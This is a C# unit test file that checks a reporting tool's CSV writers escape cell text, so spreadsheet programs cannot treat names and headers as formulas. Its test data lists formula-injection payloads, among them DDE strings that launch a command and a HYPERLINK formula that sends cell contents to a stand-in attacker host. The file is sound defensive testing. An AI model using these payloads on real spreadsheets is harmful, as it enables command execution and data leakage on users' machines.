using System.Text;
using Cai.EsfReporting.Audit;
using Cai.EsfReporting.Catalogue;
using Cai.EsfReporting.Scb;
using Cai.EsfReporting.Spreadsheets;

namespace Cai.EsfReporting.Tests.BadInput;

/// <summary>No text that is written for a spreadsheet is taken for a formula there.</summary>
public sealed class FormulaTests
{
    public static TheoryData<string> Formulas => ["=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "=HYPERLINK(\"https://evil.example/\"&A1;\"x\")"];

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task In_the_audit_log_a_name_is_no_formula(string name)
    {
        using var memory = new MemoryStream();
        await AuditCsv.WriteAsync([new(new(2018, 9, 1, 8, 0, 0, TimeSpan.Zero), new(name, name), AuditKind.Erasure) { About = name }], memory, CancellationToken.None);
        ShouldHoldNone(memory.ToArray(), cells: 3, name);
    }

    [Theory]
    [MemberData(nameof(Formulas))]
    public void In_SCBs_file_a_header_is_no_formula(string header)
    {
        foreach (var encoding in (Encoding[])[ScbLayout.Default.Encoding, CodePagesEncodingProvider.Instance.GetEncoding(1252)!])
            ShouldHoldNone(new ScbRows(ScbLayout.Default with { Columns = [new(ScbField.Identity, header), new(ScbField.Hours, header)], Encoding = encoding }).Write(ScbFormat.Csv).File, cells: 2, header);
    }

    [Theory]
    [InlineData(';')]
    [InlineData(',')]
    [InlineData('\t')]
    public void Numbers_dates_and_other_texts_are_as_they_are(char separator)
    {
        using var memory = new MemoryStream();
        using (var writer = new SpreadsheetCsv(memory, separator, withMark: false))
        {
            writer.Write(-5);
            writer.Write(-0.5);
            writer.WriteTexts("a=b", "–", "");
            writer.EndRow();
        }

        Encoding.UTF8.GetString(memory.ToArray()).ShouldBe(string.Join(separator, "-5", "-0.5", "a=b", "–", "") + "\r\n");
    }

    private static void ShouldHoldNone(byte[] csv, int cells, string formula)
    {
        // The apostrophe stands first in the cell, within its quotes.
        var text = Encoding.Latin1.GetString(csv);
        text.Split($"\"'{formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\"").Length.ShouldBe(cells + 1, text);
        foreach (var cell in text.Split(';', '\n', '\r').Select(cell => cell.Trim('"', '\uFEFF')).Where(cell => cell.Length > 0 && !formula.Contains(cell, StringComparison.Ordinal)))
            "=+-@\t".ShouldNotContain(cell[0]);
    }
}
